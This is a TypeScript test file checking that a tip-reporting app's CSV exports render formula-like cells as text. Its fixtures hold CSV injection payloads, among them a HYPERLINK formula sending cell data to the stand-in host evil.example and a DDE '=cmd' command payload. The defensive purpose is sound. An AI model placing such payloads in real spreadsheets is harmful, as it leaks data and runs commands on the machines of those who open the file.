/**
 * CSV formula injection (issue 18, item 10): text a tipster, a partner or an
 * administrator typed reaches the CSV files supervisors open in Excel. Both
 * writers — `tips export --format csv` and the supervisors' downloads
 * (/giam-sat/xuat) — must write a cell starting with = + - @ TAB CR as text.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { upsertSourceOrg } from "../../db/queries/source-orgs";
import { runCli, type RunningApp } from "../setup/app-server";
import { seedRoutedTip, signIn, startStaffApp, USERS } from "../setup/staff-fixtures";

/** RFC 4180 rows, as a spreadsheet reads them (quoted cells, doubled quotes, a BOM first); ";" for Vietnamese spreadsheets. */
function parseCsv(text: string, separator = ","): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') cell += text[++i];
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) rows[rows.length - 1].push(cell), (cell = "");
    else if (c === "\n") rows[rows.length - 1].push(cell), (cell = ""), rows.push([]);
    else cell += c;
  }
  if (cell || rows[rows.length - 1].length) rows[rows.length - 1].push(cell);
  return rows.filter((r) => r.length > 0);
}

const FORMULA_ORG = '=HYPERLINK("https://evil.example/?d="&A2,"Xem")';
const FORMULA_REFS = ["=cmd|' /C calc'!A0", "+84905123456", "-2+3", "@SUM(A1:A9)", "\t=1+1"];

describe("CSV exports neutralise formulas", () => {
  let app: RunningApp;

  beforeAll(async () => {
    ({ app } = await startStaffApp({
      seed: async (db) => {
        await upsertSourceOrg(db, { code: "EVIL", nameVi: FORMULA_ORG, nameEn: FORMULA_ORG, kind: "model", provinceCode: null }, new Date().toISOString());
        for (const externalRef of FORMULA_REFS) await seedRoutedTip(db, { externalRef, sourceOrgCode: "EVIL" });
      },
    }));
  }, 120_000);
  afterAll(async () => app?.stop());

  it("tips export --format csv writes each formula-like reference as text", () => {
    const result = runCli(["tips", "export", "--format", "csv"], app.env);
    expect(result.status).toBe(0);
    const [header, ...rows] = parseCsv(result.stdout);
    const column = header.indexOf("externalRef");
    expect(rows.map((r) => r[column]).sort()).toEqual(FORMULA_REFS.map((ref) => `'${ref}`).sort());
  });

  it("the supervisors' organisation table downloads with the formula-like name as text", async () => {
    const cookie = await signIn(app.url, USERS.admin.email);
    const res = await fetch(`${app.url}/giam-sat/xuat?table=orgs&format=csv`, { headers: { Cookie: cookie } });
    expect(res.status).toBe(200);
    // Vietnamese (the default language): ";" between cells (docs/decisions/0033).
    const cells = parseCsv(await res.text(), ";").flat();
    expect(cells).toContain(`'${FORMULA_ORG}`);
    expect(cells.some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
  });
});
